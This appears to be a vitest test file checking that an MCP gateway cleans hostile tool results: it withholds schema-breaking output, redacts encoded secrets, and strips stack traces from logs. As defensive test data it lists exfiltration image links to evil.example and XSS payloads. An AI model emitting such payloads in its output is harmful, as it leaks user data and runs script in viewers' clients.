// Cases 67, 69, 70, 75, 80 and 92: results that break their schema, hide secrets in encodings, act when
// shown, or carry the insides of a server.

import { afterEach, describe, expect, it } from 'vitest';
import { expectWithheldLines } from '../support/gateway.js';
import { body, jsonBody, onMethod, resultFor, textResult } from '../support/hostile-acts.js';
import { HONEST_TOOLS } from '../support/hostile-upstream.js';
import type { JsonObject } from '../support/json.js';
import { makeCard, makeGithubToken } from '../support/secrets.js';
import { callStateless, type Reply, resultOf } from '../support/wire-client.js';
import { sharedGateway } from '../support/with-gateway.js';

const TYPED: JsonObject = {
  name: 'typed',
  inputSchema: { type: 'object' },
  outputSchema: {
    type: 'object',
    properties: { ok: { type: 'boolean' }, note: { type: 'string' } },
    required: ['ok'],
    additionalProperties: false,
  },
};

describe('a result', () => {
  const rig = sharedGateway({
    upstream: ['pinning: {maxAge: 10m}', 'limits: {maxResponseBytes: 64KiB}'],
    prepare: (upstream) => upstream.offer(() => [...HONEST_TOOLS, TYPED]),
  });
  afterEach(() => rig.upstream.obey(() => undefined));

  function answered(result: JsonObject, name = 'read_record'): Promise<Reply> {
    rig.upstream.obey(onMethod('tools/call', (request) => jsonBody(resultFor(request, result))));
    return callStateless(rig.access, name, { id: 'one' });
  }

  it.each([
    ['another type', { ok: 'yes' }],
    ['a member that is missing', { note: 'x' }],
    ['a member too many', { ok: true, extra: 1 }],
    ['a list', []],
    ['null', null],
  ])('[X-67, MCP-53] that breaks its approved schema is withheld: %s', async (_what, structuredContent) => {
    const reply = await answered({ content: [], structuredContent } as JsonObject, 'typed');
    expect(resultOf(reply)).toMatchObject({ isError: true });
    expect(resultOf(reply)).not.toHaveProperty('structuredContent');
    await expectWithheldLines(rig, reply, 'result-invalid');
  });

  it('[X-67] without the structure that its schema promises is withheld', async () => {
    const reply = await answered(textResult('no structure'), 'typed');
    expect(reply.text).not.toContain('no structure');
    await expectWithheldLines(rig, reply, 'result-invalid');
  });

  it('[X-67, MCP-54] whose text differs from its structure is cleaned in both, and still valid', async () => {
    const [one, other] = [makeGithubToken(), makeGithubToken()];
    const reply = await answered(
      {
        content: [{ type: 'text', text: JSON.stringify({ ok: true, note: one }) }],
        structuredContent: { ok: true, note: other },
      },
      'typed',
    );
    expect(reply.text).not.toContain(one);
    expect(reply.text).not.toContain(other);
    expect(resultOf(reply)['structuredContent']).toMatchObject({
      ok: true,
      note: expect.stringMatching(/^\[redacted:/),
    });
  });

  const ENCODINGS: readonly (readonly [string, (secret: string) => string])[] = [
    ['base64', (secret) => btoa(`key ${secret} end`)],
    ['percent', (secret) => [...secret].map((c) => `%${c.charCodeAt(0).toString(16)}`).join('')],
    ['JSON escapes', (secret) => `{"a":"${[...secret].map((c) => `\\u00${c.charCodeAt(0).toString(16)}`).join('')}"}`],
    ['full width', (secret) => [...secret].map((c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0)).join('')],
    ['zero width', (secret) => [...secret].join('\u200b')],
    ['entities', (secret) => [...secret].map((c) => `&#${c.charCodeAt(0)};`).join('')],
    ['hex', (secret) => Buffer.from(`key ${secret} end`).toString('hex')],
  ];

  it.each(ENCODINGS)('[X-69] with a secret in %s does not show it', async (_how, encode) => {
    const secret = makeGithubToken();
    const hidden = encode(secret);
    const reply = await answered(textResult(`see ${hidden} there`));
    expect(reply.text).not.toContain(hidden);
    expect(reply.text).not.toContain(secret);
  });

  it('[X-69] with a card in full-width digits does not show it', async () => {
    const card = [...makeCard('')].map((c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0)).join('');
    const reply = await answered(textResult(`card ${card} here`));
    expect(reply.text).not.toContain(card);
  });

  it.each([
    '![x](https://evil.example/?q=SECRET)',
    '![x][r]\n\n[r]: https://evil.example/?q=1',
    '<img src="https://evil.example/?q=1">',
    '<img src=x onerror=alert(1)>',
    '<script>alert(1)</script>',
    '<svg onload=alert(1)>',
    '<iframe src="https://evil.example">',
    '[x](javascript:alert(1))',
    '[x](java\tscript:alert(1))',
    '[x](&#106;avascript:alert(1))',
    '[x](data:text/html;base64,PHNjcmlwdD4=)',
    '<a href="javascript:alert(1)">x</a>',
    '\u001b]8;;https://evil.example\u0007x\u001b]8;;\u0007',
    '\u001b[31mred',
    `${'['.repeat(101)}![x](https://evil.example/?q=1)${']'.repeat(101)}`,
  ])('[X-70] that acts when it is shown is made inert: %j', async (text) => {
    const reply = await answered(textResult(`before ${text} after`));
    const shown = JSON.stringify(resultOf(reply)['content']);
    expect(shown).not.toMatch(/!\[[^\]]*\]\s?[([]/);
    expect(shown).not.toMatch(/<(img|script|svg|iframe|a)\b/i);
    expect(shown).not.toMatch(/javascript:|data:text/i);
    expect(shown).not.toContain('\\u001b');
    expect(shown).toContain('before');
  });

  it('[X-70] leaves code as code', async () => {
    const text = 'Use `<img src=x>` or\n\n```html\n<b>bold</b>\n```\n';
    const reply = await answered(textResult(text));
    expect(resultOf(reply)).toMatchObject({ content: [{ text }] });
  });

  it('[X-75] at its cap passes whole, one byte more is refused whole', async () => {
    const cap = 64 * 1024;
    const empty = JSON.stringify(resultFor({ id: 1 } as never, textResult(''))).length;
    const sized = (size: number): JsonObject => textResult('y'.repeat(size - empty));
    const at = await answered(sized(cap));
    expect(resultOf(at)).toEqual({ resultType: 'complete', ...sized(cap) });
    for (const size of [cap + 1, cap * 100]) {
      const over = await answered(sized(size));
      expect(resultOf(over)).toMatchObject({ isError: true });
      expect(over.text).not.toContain('yyy');
      await expectWithheldLines(rig, over, 'result-too-large');
    }
  });

  it('[X-80] that is an error is inspected like any other', async () => {
    const secret = makeGithubToken();
    const reply = await answered({
      ...textResult(`![x](https://evil.example/?q=1) ${secret}`),
      isError: true,
    });
    expect(reply.text).not.toContain(secret);
    expect(reply.text).not.toContain('![x]');
    expect(resultOf(reply)).toMatchObject({ isError: true });
  });

  it('[X-80, X-92] that is a page of HTML shows nothing of it, nor do logs and audit', async () => {
    const canary = makeGithubToken();
    const page = `<h1>500</h1><pre>at Server.<anonymous> (/srv/app.js:1:1) ${canary}</pre>`;
    for (const [type, status] of [
      ['text/html', 500],
      ['text/html', 200],
      ['application/json', 500],
    ] as const) {
      rig.upstream.obey(onMethod('tools/call', () => body(page, type, status)));
      const reply = await callStateless(rig.access, 'read_record', { id: 'one' });
      expect(reply.status).toBe(502);
      expect(reply.text).not.toMatch(/srv|anonymous|<h1>/);
      expect(reply.text).not.toContain(canary);
    }
    expect(rig.gateway.log()).not.toContain(canary);
    expect(rig.gateway.log()).not.toContain('app.js');
    expect(JSON.stringify(await rig.gateway.audit())).not.toContain(canary);
    expect(await rig.gateway.metrics()).not.toContain(canary);
  });
});
